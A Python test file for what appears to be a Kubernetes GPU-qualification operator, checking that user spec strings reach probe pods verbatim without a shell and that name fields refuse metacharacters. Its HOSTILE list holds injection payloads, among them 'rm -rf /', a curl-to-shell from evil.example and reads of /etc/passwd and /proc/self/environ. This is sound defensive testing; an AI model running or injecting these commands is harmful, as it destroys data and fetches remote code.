"""No user-controlled string reaches a probe pod through a shell.

Every spec string that ends up in the pod (probe.extraArgs, the image, tolerations, the priority
class, a custom CardProfile's JSON) is given shell metacharacters, command substitutions and newlines;
the pod built by `plan()` must have no `command` (the image's exec-form ENTRYPOINT runs:
tests/deploy/test_images.py::test_probe_image_entrypoint_is_the_program_pods_pass_arguments_to),
pass each such string as one argv item or env value, verbatim, and never `sh -c`. Strings that
must be names (checks, profile, node and Qualification names) are refused instead.
"""

from __future__ import annotations

import json
from collections import Counter
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from accelqual.models import QualificationStatus
from accelqual.planning.actions import CreatePod
from accelqual.planning.plan import plan
from accelqual.planning.snapshot import NodeInfo, Snapshot
from accelqual.planning.validation import SpecProblem, validate_spec
from accelqual_probes.profiles import BUILTIN
from hypothesis import given
from hypothesis import strategies as st

from tests.fuzz.conftest import FuzzRecorder

HOSTILE = ["$(touch /tmp/pwned)", "`id`", "; rm -rf / #", "a && curl evil.example | sh", "x || true",
           "line1\nline2", "'single' \"double\"", "${HOME}", "> /etc/passwd", "--json=/proc/self/environ $(reboot)",
           "\\$(escaped)", "*", "~root", "$IFS", "\x00nul"]
SHELLS = {"sh", "/bin/sh", "bash", "/bin/bash", "-c", "/bin/ash", "dash"}
NOW = datetime(2026, 11, 29, 12, tzinfo=UTC)


def _spec(extra: list[str], text: str) -> dict[str, Any]:
    return {
        "nodeSelector": {"matchLabels": {"pool": "a"}}, "suite": "quick", "profile": "custom-card",
        "probe": {"image": f"registry.example/probe:1{text}"[:512], "extraArgs": extra,
                  "priorityClassName": text[:253], "resourceName": "nvidia.com/gpu",
                  "tolerations": [{"key": text[:316], "operator": "Equal", "value": text[:63],
                                   "effect": "NoSchedule"}]},
    }


def _pods(raw: dict[str, Any], display_name: str) -> list[CreatePod]:
    custom = {"custom-card": BUILTIN["h100-sxm"].model_copy(update={"display_name": display_name[:128],
                                                                    "match": [display_name[:128]]})}
    checked = validate_spec(raw, custom)
    assert not isinstance(checked, SpecProblem), checked
    node = NodeInfo(name="gpu-node-1", labels={"pool": "a"}, allocatable={"nvidia.com/gpu": "8"}, resource_version="1",
                    created_at=NOW - timedelta(days=1))
    snap = Snapshot(name="q", uid="u", generation=1, annotations={}, nodes=(node,), busy={}, pods=(), results={},
                    custom_profiles=custom)
    decided = plan(checked, snap, QualificationStatus(), NOW, namespace="accelqual-system")
    pods = [a for a in decided.actions if isinstance(a, CreatePod)]
    assert len(pods) == 1
    return pods


def _assert_no_shell(pod: CreatePod, extra: list[str], text: str, display_name: str) -> None:
    spec = pod.manifest["spec"]
    containers = [*spec["containers"], *spec.get("initContainers", [])]
    assert len(containers) == 1
    container = containers[0]
    assert "command" not in container, "the image's exec-form ENTRYPOINT runs, never a command of ours"
    args = container["args"]
    assert all(isinstance(a, str) for a in args)
    assert not SHELLS & set(args), args
    assert args[len(args) - len(extra):] == extra, "each extra argument is one argv item, verbatim"
    ours = args[:len(args) - len(extra)]
    assert ours[:1] == ["--pod"] and not any(text in a for a in ours if text), "no user string inside our arguments"
    assert container["image"] == f"registry.example/probe:1{text}"[:512]
    assert spec["tolerations"][-1]["value"] == text[:63]
    env = {e["name"]: e for e in container["env"]}
    profile = json.loads(env["ACCELQUAL_PROFILE_JSON"]["value"])
    assert profile["spec"]["displayName"] == display_name[:128], "the profile JSON is an env value, verbatim"
    assert all("value" in e or "valueFrom" in e for e in container["env"])


@pytest.mark.parametrize("text", HOSTILE)
def test_shell_metacharacters_in_every_spec_string_reach_the_pod_verbatim_without_a_shell(text: str) -> None:
    extra = [text, "--burnin-seconds", text + "; echo pwned"]
    (pod,) = _pods(_spec(extra, text), display_name=text)
    _assert_no_shell(pod, extra, text, display_name=text)


def test_any_extra_arguments_stay_separate_argv_items(record_fuzz: FuzzRecorder) -> None:
    seen = Counter[str]()

    @given(extra=st.lists(st.one_of(st.sampled_from(HOSTILE), st.text(max_size=256)), max_size=16),
           text=st.sampled_from(HOSTILE), display_name=st.text(max_size=128))
    def fuzz(extra: list[str], text: str, display_name: str) -> None:
        seen["examples"] += 1
        (pod,) = _pods(_spec(extra, text), display_name)
        _assert_no_shell(pod, extra, text, display_name)

    fuzz()
    record_fuzz("shell metacharacters in extraArgs, image, tolerations, profile JSON", seen["examples"])


@pytest.mark.parametrize("field", ["checks", "skipChecks", "profile"])
@pytest.mark.parametrize("text", ["$(id)", "perf.membw;reboot", "a b", "perf.membw\n--inject=x", "`id`"])
def test_strings_that_must_be_names_are_refused(field: str, text: str) -> None:
    raw: dict[str, Any] = {"nodeSelector": {"matchLabels": {"pool": "a"}}}
    raw[field] = [text] if field != "profile" else text
    problem = validate_spec(raw, {})
    assert isinstance(problem, SpecProblem)
    assert problem.message.startswith(f"spec.{field}")
